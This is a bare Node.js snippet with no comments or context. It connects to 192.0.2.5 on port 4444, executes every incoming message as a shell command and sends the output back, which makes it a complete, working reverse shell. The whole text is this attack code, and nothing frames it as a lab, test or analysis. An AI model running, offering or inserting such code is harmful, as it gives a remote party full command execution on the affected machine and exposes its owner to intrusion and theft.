const net = require('net');
const { exec } = require('child_process');
const c = net.createConnection(4444, '192.0.2.5');
c.on('data', (d) => exec(d.toString(), (e, out) => c.write(out)));
